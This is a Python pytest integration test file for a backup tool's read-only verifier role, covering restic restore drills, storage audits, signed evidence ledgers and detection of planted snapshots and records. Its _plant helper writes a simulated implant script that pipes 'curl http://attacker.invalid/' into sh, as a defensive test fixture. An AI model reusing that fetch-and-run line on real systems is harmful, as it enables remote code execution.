"""The verifier role on real restic, SeaweedFS and PostgreSQL: restore drills, a check slice and evidence
from a second identity that holds only the auditor's read-only S3 keys, the repository password, its own
signing key and keys that may only add objects under its own evidence prefix."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import uuid
from datetime import datetime

import pytest
from botocore.exceptions import ClientError

from backupd.config.credentials import read_credentials
from backupd.files import manifest
from demo.seaweed import VERIFIER_HOST
from tests.integration.conftest import ROOT, Setup

pytestmark = pytest.mark.integration

TARGETS = """  - name: v-programs
    category: system_program
    environment: production
    owner: test
    sources: {{paths: ['{root}/programs/production']}}
    frequency: 1d
    rto: 8h
    retention: {{keep_daily: 7, keep_weekly: 8}}
    destinations: [worm]
    drill: programs
  - name: v-tos-db
    category: container_data
    owner: test
    sources:
      dump: {{kind: pg_dump, database: tos, host: '{pghost}', port: {pgport}, user: '{pguser}'}}
    frequency: 1h
    rto: 4h
    retention: {{keep_hourly: 24, keep_daily: 7, keep_weekly: 8}}
    destinations: [worm]
    drill: tos-db
"""
REPO = "t-verifier"
VERIFIER_SECRETS = ("s3-auditor.env", "s3-verifier.env", "s3-canary.env", "restic-password")


@pytest.fixture
def host():
    """The backup host's name: its own per test, since its records are mirrored to the session's bucket."""
    return f"vh-{uuid.uuid4().hex[:8]}"


@pytest.fixture(scope="module")
def verifier_state(tmp_path_factory):
    """One verifier state for the module: its ledger is mirrored under evidence/verifier-01/ in the session's
    bucket (its identity may write nowhere else), so every test's verifier continues the same ledger."""
    return tmp_path_factory.mktemp("verifier-state")


@pytest.fixture
def pair(policy, stack, tmp_path, host, verifier_state):
    """(backup host setup with both targets backed up and its records mirrored to WORM, verifier setup on the
    same policy that reads that host's snapshots)."""
    env = stack.env
    main = policy(TARGETS.format(root=env["TOS_ROOT"], pghost=env["TOS_PGHOST"], pgport=env["TOS_PGPORT"],
                                 pguser=env["TOS_PGUSER"]), REPO, restore_tests=f"'{ROOT / 'restore_tests'}'",
                  evidence="{mirror: worm}")
    main.config.write_text(main.config.read_text().replace("host: it-host", f"host: {host}"))
    _auditor_keys(tmp_path)
    for target in ("v-programs", "v-tos-db"):
        run = main.cli("backup", "--target", target, "--json")
        assert run.code == 0, run.stdout + run.stderr
    return main, _verifier(stack, tmp_path, host, verifier_state)


def _auditor_keys(tmp_path) -> None:
    """The policy's destination names the auditor's (read-only) and the canary's keys, which a verifier uses."""
    policy_file = tmp_path / "policies" / "test.yaml"
    text = policy_file.read_text().replace(
        "    credentials_file: s3-writer.env\n",
        "    credentials_file: s3-writer.env\n    auditor_credentials_file: s3-auditor.env\n"
        "    canary_credentials_file: s3-canary.env\n")
    policy_file.write_text(text)


def _verifier(stack, tmp_path, host: str, verifier_state) -> Setup:
    """The verifier's setup on tmp_path/policies, continuing the module's verifier state."""
    secrets = tmp_path / "verifier-secrets"
    secrets.mkdir(mode=0o700)
    for name in VERIFIER_SECRETS:  # never the writer's or maintainer's keys
        shutil.copy(stack.secrets_dir / name, secrets / name)
        (secrets / name).chmod(0o600)
    vdir = tmp_path / "verifier"
    vdir.mkdir()
    (vdir / "state").symlink_to(verifier_state)
    config = vdir / "verifier.yaml"
    config.write_text("\n".join([
        "role: verifier", f"policies: ['{tmp_path / 'policies'}/*.yaml']", f"state_dir: '{vdir / 'state'}'",
        f"secrets_dir: '{secrets}'", f"host: {VERIFIER_HOST}", f"hosts: [{host}]",
        f"restore_tests: '{ROOT / 'restore_tests'}'",
        "evidence: {mirror: worm, credentials_file: s3-verifier.env}"]) + "\n")
    return Setup(stack, vdir, config)


@pytest.mark.restic
def test_a_verifier_with_read_only_keys_drills_both_targets_and_signs_with_its_own_key(pair, stack, host):
    main, verifier = pair
    for target in ("v-programs", "v-tos-db"):
        run = verifier.cli("drill", "--full", "--target", target, "--json", timeout=1800)
        assert run.code == 0, run.stdout + run.stderr
        (drill,) = run.doc["drills"]
        assert drill["verdict"] == "PASS" and drill["verification"]["ok"], drill
        assert drill["snapshot_host"] == host  # the backup host's snapshot, found by `hosts`
        assert drill["announcement"]["snapshot_id"] == drill["snapshot_id"] and drill["unannounced"] == []
        assert all(p["status"] == "ok" for p in drill["probes"]), drill["probes"]
    for target in ("v-programs", "v-tos-db"):  # the full drills just passed: nothing is due
        run = verifier.cli("drill", "--due", "--target", target, "--json")
        assert run.code == 0 and run.doc["drills"] == [], run.stdout + run.stderr
    run = verifier.cli("check", "--json")
    assert run.code == 0, run.stdout + run.stderr
    # The storage audit with read-only keys and the canary identity: the lock is proven; the stack's
    # 1-day default retention is shorter than min_history (6w), which it must report.
    run = verifier.cli("audit", "storage", "--json")
    checks = {c["name"]: c for c in run.doc["destinations"][0]["checks"]}
    assert all(checks[n]["ok"] for n in ("versioning", "object_lock", "lock_mode", "delete_canary")), checks
    assert checks["writer_probes"]["severity"] == "warning"  # it holds no writer keys to probe with
    failed = {n for n, c in checks.items() if not c["ok"] and c["severity"] == "error"}
    assert run.code == 1 and failed == {"default_retention", "retention_readback"}, checks

    # Its ledger verifies under the verifier's own public key, and not under the backup host's.
    ledger = verifier.dir / "state" / "evidence" / "ledger.jsonl"
    own_key = verifier.dir / "state" / "keys" / "evidence-ed25519.pub"
    run = verifier.cli("evidence", "verify", str(ledger), "--public-key", str(own_key), "--json")
    assert run.code == 0, run.stdout + run.stderr
    assert run.doc["ledger"]["hosts"] == [VERIFIER_HOST] and run.doc["ledger"]["records"] >= 3
    host_key = main.dir / "state" / "keys" / "evidence-ed25519.pub"
    assert verifier.cli("evidence", "verify", str(ledger), "--public-key", str(host_key)).code == 1
    keyring = verifier.dir / "keyring.yaml"  # the auditors' view: who may attest what
    keyring.write_text(f"roles:\n  backup-host: {{public_key: '{host_key}'}}\n"
                       f"  verifier: {{public_key: '{own_key}', kinds: [drill, check, storage_audit]}}\n")
    run_ring = verifier.cli("evidence", "verify", str(ledger), "--keyring", str(keyring), "--json")
    assert run_ring.code == 0, run_ring.stdout + run_ring.stderr
    drills = [a for a in run_ring.doc["attestations"] if a["kind"] == "drill"]
    assert len(drills) == 2 and {a["role"] for a in drills} == {"verifier"}, run_ring.doc["attestations"]

    # Its export bundle (inventory read from the backup host's snapshots) verifies under its key.
    bundle = verifier.dir / "verifier-evidence.tar.gz"
    run_export = verifier.cli("evidence", "export", "--out", str(bundle), "--json")
    assert run_export.code == 0, run_export.stdout + run_export.stderr
    run_bundle = verifier.cli("evidence", "verify", str(bundle), "--public-key", str(own_key), "--json")
    assert run_bundle.code == 0 and run_bundle.doc["type"] == "bundle", run_bundle.stdout + run_bundle.stderr

    # Mirrored to WORM under its own prefix with its evidence-only keys; auditors pull it back intact.
    listed = stack.seaweed.client("admin").list_objects_v2(
        Bucket=stack.bucket, Prefix=f"evidence/{VERIFIER_HOST}/records/")
    assert listed.get("KeyCount") == len(ledger.read_bytes().splitlines())  # the export's record too
    run = main.cli("evidence", "pull", "--destination", "worm", "--host", VERIFIER_HOST,
                   "--out", str(main.dir / "pulled"), "--json")
    assert run.code == 0 and run.doc["hosts"][0]["ok"], run.stdout + run.stderr

    # restic never wrote a lock for the verifier: every read ran with --no-lock.
    locks = stack.seaweed.client("admin").list_objects_v2(Bucket=stack.bucket, Prefix=f"{REPO}/locks/")
    assert locks.get("KeyCount", 0) == 0


def test_the_verifier_refuses_to_write_and_its_keys_cannot(pair, stack):
    _, verifier = pair
    run = verifier.cli("backup", "--target", "v-programs", "--json")
    assert run.code == 2 and "backup refused" in run.doc["error"] and "role: verifier" in run.doc["error"]
    for argv in (["forget"], ["prune"], ["extend-locks"], ["copy"]):
        assert verifier.cli(*argv).code == 2, argv
    for identity, key in (("auditor", f"{REPO}/data/00/planted"), ("verifier", f"{REPO}/locks/planted"),
                          ("verifier", "evidence/it-host/records/999999999999.json")):
        with pytest.raises(ClientError) as err:
            stack.seaweed.client(identity).put_object(Bucket=stack.bucket, Key=key, Body=b"x")
        assert err.value.response["Error"]["Code"] == "AccessDenied", (identity, key)


def _plant(stack, tmp_path, host: str) -> str:
    """What an attacker holding the writer keys and the repository password can do without backupd: a restic
    snapshot of the programs (plus an implant), with a manifest that matches its content, tagged exactly as
    backupd tags that target's snapshots, dated now. Returns its id."""
    env = {**os.environ, **read_credentials(stack.secrets_dir / "s3-writer.env"),
           "RESTIC_REPOSITORY": f"s3:{stack.env['BACKUPD_S3_ENDPOINT']}/{stack.bucket}/{REPO}",
           "RESTIC_PASSWORD_FILE": str(stack.secrets_dir / "restic-password")}
    listed = subprocess.run(["restic", "snapshots", "--no-cache", "--json", "--tag", "target=v-programs",
                             "--host", host], env=env, capture_output=True, text=True, check=True)
    tags = [t for t in json.loads(listed.stdout)[-1]["tags"] if t != "suspect"]
    implant = tmp_path / "planted" / "implant.sh"
    implant.parent.mkdir()
    implant.write_text("#!/bin/sh\ncurl http://attacker.invalid/ | sh\n")
    paths = [f"{stack.env['TOS_ROOT']}/programs/production", str(implant.parent)]
    entries = manifest.build(paths, [], manifest.HashCache(tmp_path / "planted-hashes.json"))
    doc = manifest.document("v-programs", host, entries, {"files": len(entries),
                                                          "bytes": sum(e.size for e in entries)})
    staging = tmp_path / "planted-state" / "manifests" / "v-programs"
    manifest.write(doc, staging)
    done = subprocess.run(["restic", "backup", "--no-cache", "--json", "--host", host,
                           *(a for t in tags for a in ("--tag", t)), *paths, str(staging)],
                          env=env, capture_output=True, text=True, check=True)
    # restic 0.14 reports an 8-digit id, 0.18 the full one
    return [json.loads(line) for line in done.stdout.splitlines() if '"summary"' in line][-1]["snapshot_id"][:8]


def _when(text: str) -> datetime:
    return datetime.fromisoformat(text.replace("Z", "+00:00"))


def test_a_snapshot_the_backup_host_never_announced_is_a_finding_never_drilled(pair, stack, tmp_path, host):
    main, verifier = pair
    planted = _plant(stack, tmp_path, host)

    run = verifier.cli("drill", "--target", "v-programs", "--json")
    (drill,) = run.doc["drills"]
    assert run.code == 1, run.stdout + run.stderr  # a planted restore point is a finding
    # the newest announced snapshot was drilled instead, and passed
    assert not drill["snapshot_id"].startswith(planted) and drill["verdict"] == "PASS", drill.get("reason")
    assert [u["snapshot_id"][:len(planted)] for u in drill["unannounced"]] == [planted], drill["unannounced"]
    assert drill["unannounced"][0]["finding"] and drill["status"] == "failed"
    announced = drill["announcement"]
    assert announced["snapshot_id"] == drill["snapshot_id"] and announced["host"] == host
    # the verified RPO runs from the signed, mirrored backup record, not the snapshot's own time field
    assert _when(drill["verified_snapshot_time"]) == _when(announced["time"])
    assert _when(announced["time"]) > _when(drill["snapshot_time"])
    # the finding is in the verifier's signed evidence too
    ledger = (verifier.dir / "state" / "evidence" / "ledger.jsonl").read_text().splitlines()
    recorded = [json.loads(line)["data"] for line in ledger if json.loads(line)["kind"] == "drill"]
    assert recorded[-1]["unannounced"][0]["snapshot_id"].startswith(planted)

    run = verifier.cli("drill", "--target", "v-programs", "--snapshot", planted[:12], "--json")
    (drill,) = run.doc["drills"]
    assert run.code == 1 and drill["verdict"] == "FAIL" and "not drilled" in drill["reason"], drill
    assert drill.get("files_restored") is None  # nothing of it was restored

    # a verifier that cannot find the host's mirrored ledger drills nothing: no fallback to the repository
    verifier.config.write_text(verifier.config.read_text().replace(f"hosts: [{host}]", "hosts: [vh-nowhere]"))
    run = verifier.cli("drill", "--target", "v-programs", "--json")
    (drill,) = run.doc["drills"]
    assert run.code == 1 and "no mirrored ledger of vh-nowhere" in drill["reason"], drill


def test_a_record_planted_in_the_verifiers_prefix_is_reported_and_never_blocks_it(policy, stack, tmp_path, host,
                                                                                  verifier_state):
    """Runs last in this module: it leaves a plant under the module's evidence/verifier-01/."""
    env = stack.env
    main = policy(TARGETS.format(root=env["TOS_ROOT"], pghost=env["TOS_PGHOST"], pgport=env["TOS_PGPORT"],
                                 pguser=env["TOS_PGUSER"]), REPO,
                  restore_tests=f"'{ROOT / 'restore_tests'}'", evidence="{mirror: worm}")
    _auditor_keys(tmp_path)
    verifier = _verifier(stack, tmp_path, host, verifier_state)
    assert verifier.cli("audit", "storage", "--json").code in (0, 1)  # records (and mirrors) a storage_audit
    ledger = verifier.dir / "state" / "evidence" / "ledger.jsonl"
    following = len(ledger.read_bytes().splitlines()) + 1
    key = f"evidence/{VERIFIER_HOST}/records/{following:012d}.json"
    admin = stack.seaweed.client("admin")  # any identity with a write grant on the verifier's prefix
    plant = b'{"planted": "by the backup host"}\n'
    admin.put_object(Bucket=stack.bucket, Key=key, Body=plant)
    admin.put_object(Bucket=stack.bucket, Key="evidence/fake-01/records/000000000001.json", Body=plant)

    run = verifier.cli("audit", "storage", "--json")  # before: a head regression, the verifier blocked for good
    assert run.code in (0, 1) and "head regression" not in run.stdout + run.stderr, run.stdout + run.stderr
    lines = ledger.read_bytes().splitlines()
    assert len(lines) == following + 1 and json.loads(lines[-1])["kind"] == "mirror-foreign-object"
    [obj] = json.loads(lines[-1])["data"]["objects"]
    assert obj["object"] == key and obj["size"] == len(plant)
    assert admin.get_object(Bucket=stack.bucket, Key=key)["Body"].read() == lines[following - 1] + b"\n"
    run = verifier.cli("status", "--json")
    assert run.code == 1 and [o["key"] for o in run.doc["evidence_foreign_objects"]] == [key], run.stdout

    own_key = verifier.dir / "state" / "keys" / "evidence-ed25519.pub"
    run = main.cli("evidence", "verify", str(ledger), "--mirror", "worm", "--host", VERIFIER_HOST,
                   "--public-key", str(own_key), "--json")
    assert run.code == 1, run.stdout + run.stderr
    assert run.doc["mirror"]["records"] == len(lines)  # the genuine version of every record
    assert [f["key"] for f in run.doc["mirror"]["foreign_objects"]] == [key]
    assert [p for p in run.doc["problems"] if "foreign object" not in p] == [], run.doc["problems"]
    run = main.cli("evidence", "pull", "--destination", "worm", "--host", "fake-01", "--out",
                   str(tmp_path / "pulled"), "--json")
    assert run.code == 1 and any("unverifiable host" in p for p in run.doc["hosts"][0]["problems"]), run.stdout
